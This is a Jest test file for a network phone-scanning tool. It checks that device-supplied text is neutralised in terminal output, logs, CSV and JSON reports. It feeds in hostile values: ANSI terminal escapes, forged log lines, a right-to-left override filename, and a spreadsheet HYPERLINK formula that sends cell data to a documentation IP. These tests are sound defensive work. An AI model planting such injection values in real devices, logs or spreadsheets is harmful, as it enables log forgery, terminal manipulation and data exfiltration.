import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { type Finished, runCommand } from '../../support/command/command.js';
import { type Network, startNetwork } from '../../support/network.js';
import { quickProfile } from '../../support/command/quick-profile.js';
import { readReport, type Report, reported, reportedAt } from '../../support/reports/report-schema.js';
import { temporaryFolder } from '../../support/command/temporary-folder.js';

const escape = '\u001b[2J\u001b[31mowned\u001b]0;title\u0007';
const forged = 'ok\r\n00:00:00.000 info  10.0.0.1 00CCFC123456 outcome outcome=done\u2028more\u0085and';
const formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")';
const reversed = '\u202egnp.exe\u202c';

/** Anything a terminal, an editor or a log reader would act on instead of showing it; a line feed ends our own lines. */
const acts = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const withoutLineEnds = (text: string): string => text.replaceAll('\r\n', '').replaceAll('\n', '');

describe('what phones say is untrusted text', () => {
  const folder = temporaryFolder();
  let network: Network;
  let run: Finished;
  let report: Report;
  const files = { json: folder.file('r.json'), csv: folder.file('r.csv'), log: folder.file('r.log') };

  beforeAll(async () => {
    network = await startNetwork(
      [
        { model: '8841', name: 'serial', serial: escape },
        { model: '8841', name: 'hardware', hardware: formula },
        {
          model: '8851',
          name: 'upgrade',
          behavior: { upgradeResult: 'write-failed', upgradeStatusText: `Upgrading ${escape}` },
        },
        { model: '8851', name: 'license', behavior: { authorizationResult: 'refused' } },
        { kind: 'printer', name: 'title', model: `${escape}${forged}` },
        { kind: 'camera', name: 'camera', model: reversed },
      ],
      {
        subnet: '127.66.0.0/28',
        texts: {
          upgradeFailed: `Upgrade Failed ${forged}${escape}`,
          statusAfterFailure: `Upgrade failed ${escape}`,
          authorizationRefused: { code: '9', text: `${formula} Authorization Failed. ${forged}` },
        },
      },
    );
    const profile = quickProfile(folder.path, 'mpp-to-enterprise');
    run = await runCommand([
      ...[...network.scan, '--profile', profile, '--files', network.files, '--yes'],
      ...['--report', files.json, '--report', files.csv, '--log-file', files.log, '--log-level', 'debug'],
    ]);
    report = readReport(files.json);
  });
  afterAll(async () => {
    await network.close();
    folder.remove();
  });

  it('reaches the report: the texts are the ones meant', () => {
    expect(reported(report, network.phone('serial')).serial).toContain('owned');
    expect(reported(report, network.phone('hardware')).hardwareVersion).toBe(formula);
    expect(reported(report, network.phone('upgrade')).failure?.message).toContain(escape);
    expect(reported(report, network.phone('license')).failure?.message).toContain(formula);
    expect(reported(report, network.phone('license')).failure?.message).toContain('outcome=done');
    expect(reportedAt(report, network.phone('title')).failure?.message).toContain('owned');
  });

  it('does nothing on a terminal: not in the table, not in the log on standard error', () => {
    expect(withoutLineEnds(run.stdout)).not.toMatch(acts);
    expect(withoutLineEnds(run.stderr)).not.toMatch(acts);
    expect(run.stdout).toContain('\\x1b');
  });

  it('forges no line: each line of the log is one of ours', () => {
    const lines = readFileSync(files.log, 'utf8').split('\n').slice(0, -1);
    for (const line of lines) {
      expect(line).toMatch(
        /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d (?:error|warn |info |debug) (?:127\.66\.0\.\d+ |run-|survey-|looking)/,
      );
      expect(line).not.toMatch(acts);
    }
  });

  it('forges no phone: the table has the fleet and nobody else', () => {
    const macs = run.stdout.split('\n').flatMap((line) => /^(\d+(?:\.\d+){3}) /.exec(line)?.[1] ?? []);
    expect(new Set(macs)).toEqual(new Set(report.phones.map(({ address }) => address)));
  });

  it('is no formula in a spreadsheet, and no line or column more', () => {
    const text = readFileSync(files.csv, 'utf8');
    expect(withoutLineEnds(text)).not.toMatch(acts);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(report.phones.length);
    for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const { address } = network.phone('hardware');
    expect(rows.find((row) => row['address'] === address)?.['hardwareVersion']).toBe(`'${formula}`);
  });

  it('is escaped in JSON and still means the same to who reads it', () => {
    const text = readFileSync(files.json, 'utf8');
    expect(withoutLineEnds(text)).not.toMatch(acts);
    expect(reportedAt(report, network.phone('camera')).failure?.message).toContain(reversed);
  });
});
